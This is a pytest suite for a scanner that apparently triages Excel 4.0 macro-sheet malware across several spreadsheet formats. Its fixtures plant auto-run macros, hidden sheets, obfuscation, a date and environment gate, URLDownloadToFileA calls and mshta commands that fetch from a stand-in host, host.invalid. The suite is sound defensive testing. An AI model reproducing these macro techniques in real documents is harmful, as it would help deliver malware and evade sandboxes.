"""Rows S01 to S09: macro sheets in every format, whose records lie, hide, loop, or are locked."""

import struct
from contextlib import suppress
from itertools import pairwise

import pytest

from emotriage import Level, Limits, scan
from emotriage.formats.cfb import read_compound_file
from emotriage.formats.excel.biff8 import read_workbook
from emotriage.formats.excel.slk import read_symbolic_link
from emotriage.model.blob import Blob
from emotriage.model.errors import BudgetSpent, FormatError
from emotriage.model.limits import MIB, Budget
from emotriage.testing import archive, compound_file, workbook

BINARY = ("xls", "xlsm", "xlsb")
STARTS = {"A1": '=EXEC("emotriage-inert")', "A2": "=HALT()"}


def planted(form="xls", cells=None, **more) -> bytes:
    more = {"names": {"Auto_Open": "Macro1!$A$1"}, **more}
    if form != "slk":
        more = {"state": {"Macro1": "veryhidden"}, **more}
    return workbook(form, xlm={"Macro1": cells or STARTS}, **more)


def look(data: bytes, name="invoice.xls", **limits):
    return scan(data, name=name, limits=Limits(**limits) if limits else None, plugins=[])


def rules_of(verdict) -> set[str]:
    return {one.rule for one in verdict.findings}


def said(verdict) -> set[tuple]:
    return {
        (one.rule, one.severity, tuple((seen.text, seen.where) for seen in one.evidence)) for one in verdict.findings
    }


def indicators_of(verdict) -> set[tuple[str, str]]:
    return {(one.kind, one.value) for one in verdict.indicators}


def stream_of(data: bytes) -> bytes:
    compound = read_compound_file(Blob(data), Budget(Limits()))
    return compound.open(compound.find("Workbook")).read()


def record(kind: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


EMOTET = {
    "A1": '=FORMULA("="&Letters!A1&Letters!B2&Letters!A1&Letters!C3&"(""msh"&Letters!D4&" http://host.invalid/a"")",B1)',
    "A2": "=GOTO(B1)",
    "B2": "=RETURN()",
}
LETTERS = {"A1": "E", "B2": "X", "C3": "C", "D4": "ta"}
GATED = {
    "A1": "=FORMULA.FILL(GET.CELL(19,C1)*4,D1)",
    "A2": "=FORMULA.FILL(GET.CELL(17,C2)+DAY(NOW()),D2)",
    "A3": "=FORMULA.FILL("
    + "&".join(
        f"CHAR(D{1 + index % 2}+{ord(char) - (80, 43)[index % 2]})"
        for index, char in enumerate('=EXEC("emotriage-inert")')
    )
    + ",E1)",
    "A4": "=IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)",
    "A5": "=RUN(E1)",
    "A6": "=HALT()",
    "E2": "=RETURN()",
}
GATED_LOOKS = {"looks": {"Macro1": {"C1": {"size": 20}}}, "heights": {"Macro1": {"2": 20}}}


@pytest.mark.parametrize(
    ("cells", "more"),
    [
        (STARTS, {}),
        (EMOTET, {"sheets": {"Letters": LETTERS}, "state": {"Macro1": "veryhidden", "Letters": "hidden"}}),
        (GATED, GATED_LOOKS),
    ],
)
def test_s01_the_same_sheet_says_the_same_in_each_format(cells, more):
    verdicts = [look(planted(form, cells, **more), name=f"invoice.{form}") for form in BINARY]
    assert {"xlm.executes", "xlm.autorun", "xlm.very-hidden-macrosheet"} <= rules_of(verdicts[0])
    assert all(said(one) == said(other) for one, other in pairwise(verdicts))
    assert all(indicators_of(one) == indicators_of(other) != set() for one, other in pairwise(verdicts))
    assert all(one.complete for one in verdicts)


def test_s01_a_symbolic_link_file_says_the_same_but_for_what_it_cannot_hold():
    cells = {"A1": '=EXEC("msh"&B1)', "A2": "=HALT()", "B1": "ta http://host.invalid/a"}
    found, other = look(planted("slk", cells), name="a.slk"), look(planted("xls", cells, state={}))
    assert rules_of(found) == rules_of(other)
    assert indicators_of(found) == indicators_of(other)


def test_s01_on_the_right_day_with_the_right_font():
    verdict = look(planted("xlsm", GATED, **GATED_LOOKS))
    (key,) = [one for one in verdict.findings if one.rule == "xlm.date-key"]
    assert key.evidence[0].text == "day of the month 23"
    assert ("command", "emotriage-inert") in indicators_of(verdict)
    assert "xlm.sandbox-gate" in rules_of(verdict)
    assert verdict.level is Level.MALICIOUS


def test_s02_a_length_that_lies_is_told():
    verdict = look(planted(defects=["record-length-lies"]))
    assert "xlm.damaged-workbook" in rules_of(verdict)
    assert not verdict.complete


@pytest.mark.parametrize("filler", [record(0x1B6), record(0x3C), record(0x3C, bytes(64)), bytes(4)])
def test_s02_millions_of_empty_records_cost_what_their_bytes_do(filler):
    stream = stream_of(planted())
    end = struct.unpack_from("<H", stream, 2)[0] + 4
    works = []
    for count in (4_000, 16_000):
        budget = Budget(Limits())
        grown = bytearray(stream[:end] + filler * count + stream[end:])
        at = grown.index(struct.pack("<H", 0x85) + struct.pack("<H", 14), end + len(filler) * count)
        for offset in range(at, len(grown)):  # each position in the list of sheets moves
            if grown[offset : offset + 2] != b"\x85\0":
                break
            (position,) = struct.unpack_from("<I", grown, offset + 4)
            struct.pack_into("<I", grown, offset + 4, position + len(filler) * count)
            break
        read_workbook(Blob(bytes(grown)), budget)
        works.append(budget.work)
    assert works[1] <= 4.5 * works[0]


@pytest.mark.parametrize("form", ["xls", "xlsm", "slk"])
def test_s03_parentheses_ten_thousand_deep(form):
    if form == "xls":
        cells = {"A1": b"\x17\4\0calc" + b"\x15" * 7900, "A2": '=EXEC("emotriage-inert")'}
    else:
        deep = "=" + "(" * 10_000 + '"calc"' + ")" * 10_000
        cells = {"A1": deep, "A2": '=EXEC("emotriage-inert")'}
    assert "xlm.executes" in rules_of(look(planted(form, cells)))


def test_s03_formulas_that_call_each_other_without_end():
    cells = {"A1": "=RUN(B1)", "B1": "=RUN(A1)", "A2": '=EXEC("emotriage-inert")'}
    verdict = look(planted(cells=cells))
    assert "xlm.executes" in rules_of(verdict)
    assert not verdict.complete


def test_s03_an_unknown_token_is_a_gap():
    verdict = look(planted(cells={"A1": b"\x17\4\0calc\x18\x42\1\x6e\0", "A2": "=HALT()"}))
    assert "xlm.unread-macrosheet" in rules_of(verdict)
    assert not verdict.complete


def test_s03_shared_formulas_in_a_circle_are_a_gap():
    token = b"\x01" + struct.pack("<HH", 0, 0)
    verdict = look(planted(cells={"A1": token, "A2": b"\x01" + struct.pack("<HH", 0, 1)}))
    assert not verdict.complete


@pytest.mark.parametrize("head", [b"\xff" * 9, b"\x9c\x01\xff\xff\xff\x7f", b"\x9c\x01\xff\xff\xff\xff", b"\x80" * 64])
def test_s04_numbers_that_never_end_in_a_binary_package(head):
    parts = {"xl/macrosheets/sheet2.bin": b"\x81\x01\0\x91\x01\0" + head + bytes(4096)}
    verdict = look(planted("xlsb", parts=parts))
    assert "xlm.macrosheet" in rules_of(verdict)
    assert not verdict.complete


def test_s05_a_sheet_without_end_and_two_workbooks():
    assert "xlm.executes" in rules_of(look(planted(defects=["no-sheet-eof"])))
    one, other = stream_of(planted()), stream_of(planted(cells={"A1": '=CALL("urlmon","URLDownloadToFileA","JJ",0)'}))
    verdict = look(compound_file({"Workbook": one, "Book": other}))
    assert {"xlm.executes", "xlm.downloads", "xlm.ambiguous-workbook"} <= rules_of(verdict)


@pytest.mark.parametrize("encryption", ["xor", "rc4", "cryptoapi"])
def test_s06_the_password_that_excel_tries_by_itself(encryption):
    verdict = look(planted(password="VelvetSweatshop", encryption=encryption))
    assert {"xlm.executes", "ole.default-password"} <= rules_of(verdict)
    assert verdict.complete


@pytest.mark.parametrize(
    "name",
    [
        "AUTO_OPEN",
        "auto_open",
        "Auto\0_Open",
        "Auto_Öffnen",
        "_xlnm.Auto_Open",
        "_XLNM.AUTO_OPEN7",
        "\uff21uto_open",
        "Auto_Ouvrir",
    ],
)
@pytest.mark.parametrize("form", ["xls", "xlsb", "xlsm"])
def test_s07_names_that_start_macros_however_they_are_spelled(name, form):
    if form == "xlsm" and "\0" in name:
        name = name.replace("\0", "\u200b")
    verdict = look(planted(form, names={name: "Macro1!$A$1"}, plain_names=True))
    assert {"xlm.autorun", "xlm.executes"} <= rules_of(verdict)
    assert verdict.level >= Level.SUSPICIOUS


def test_s08_a_million_cells_end_at_a_limit_that_is_told():
    row = "".join(f'<row r="{row}"><c r="A{row}" t="s"><v>{2**31}</v></c></row>' for row in range(1, 40_001))
    sheet = f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{row}</sheetData></worksheet>'
    cells = {"A1": "=EXEC(Sheet1!A1)", "A2": '=EXEC("emotriage-inert")'}
    data = planted("xlsm", cells, sheets={"Sheet1": {}}, parts={"xl/worksheets/sheet1.xml": sheet})
    assert "xlm.executes" in rules_of(look(data))


def test_s08_shared_strings_are_streamed():
    def strings(count):
        items = "".join(f"<si><t>{'x' * 90}{number}</t></si>" for number in range(count))
        return f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{items}</sst>'

    cells = {"A1": "=EXEC(B1)", "B1": "emotriage-inert"}
    data = planted("xlsm", cells, parts={"xl/sharedStrings.xml": strings(50_000)})
    verdict = look(data)
    assert ("command", "x" * 90 + "0") in indicators_of(verdict)


def test_s09_bare_streams():
    verdict = look(stream_of(planted()))
    assert {"xlm.executes", "xlm.autorun"} <= rules_of(verdict)
    cells = {"A1": '=FORMULA("=EXEC(""mshta http://host.invalid/a"")",A2)', "A3": "=HALT()"}
    expected = look(planted(cells=cells))
    for form in ("xls2", "xls3", "xls4"):
        old = look(workbook(form, sheets={}, xlm={"Macro1": cells}, names={"Auto_Open": "Macro1!$A$1"}), name="a.xls")
        assert {"xlm.executes", "xlm.autorun", "xlm.downloads"} <= rules_of(old)
        assert indicators_of(old) == indicators_of(expected)
    unknown = look(struct.pack("<HHHH", 0x809, 8, 0x0777, 0x40) + bytes(4) + record(0x0A) + bytes(16), name="old.xls")
    assert "xlm.old-workbook" in rules_of(unknown)
    assert not unknown.complete


LOOPS = [
    {"A1": '=EXEC("mshta http://host.invalid/a")', "A2": "=GOTO(A1)"},
    {"A1": "=WHILE(TRUE)", "A2": '=EXEC("mshta http://host.invalid/a")', "A3": "=NEXT()"},
    {"A1": '=FORMULA("=EXEC(""mshta http://host.invalid/a"")",A2)', "A3": "=RUN(A1)"},
    {
        "A1": '=FOR("i",1,1000000000)',
        "A2": '=SET.NAME("x",x&"a")',
        "A3": '=EXEC("mshta http://host.invalid/a")',
        "A4": "=NEXT()",
    },
]


@pytest.mark.parametrize("cells", LOOPS)
def test_loops_that_do_not_end_keep_what_was_seen_and_leave_a_gap(cells):
    verdict = look(planted(cells=cells, names={"Auto_Open": "Macro1!$A$1", "x": '""'}))
    assert ("url", "http://host.invalid/a") in indicators_of(verdict)
    assert "xlm.emulation-limit" in rules_of(verdict)
    assert not verdict.complete


def test_a_written_script_is_looked_at():
    cells = {
        "A1": '=FOPEN("C:\\Users\\Public\\a.vbs",3)',
        "A2": '=FWRITELN(A1,"Set s = CreateObject(""WScript.Shell"")")',
        "A3": '=FWRITELN(A1,"s.Run ""mshta http://host.invalid/a"", 0")',
        "A4": "=FCLOSE(A1)",
        "A5": '=EXEC("wscript C:\\Users\\Public\\a.vbs")',
        "A6": "=HALT()",
    }
    verdict = look(planted(cells=cells))
    assert [one.name for one in verdict.artifacts] == ["invoice.xls", "written-0-a.vbs"]
    assert any(one.artifact == 1 for one in verdict.findings)


@pytest.mark.parametrize(
    "data", [b"ID;P\r\n" + b"C;X1;Y1;K0;E" + b"(" * MIB, b"O;E\n" + b"C;" * MIB, b"ID\n" + b"NN;N\n" * 99_999]
)
def test_hostile_symbolic_link_files_are_read_in_linear_work(data):
    budget = Budget(Limits())
    with suppress(FormatError, BudgetSpent):
        read_symbolic_link(Blob(data), budget)
    assert budget.work < 400 * len(data)


def test_archives_of_workbooks_say_what_is_in_them():
    verdict = look(archive({"a.slk": planted("slk"), "b.xlsb": planted("xlsb")}), name="a.zip")
    assert {one.artifact for one in verdict.findings if one.rule == "xlm.executes"} == {1, 2}
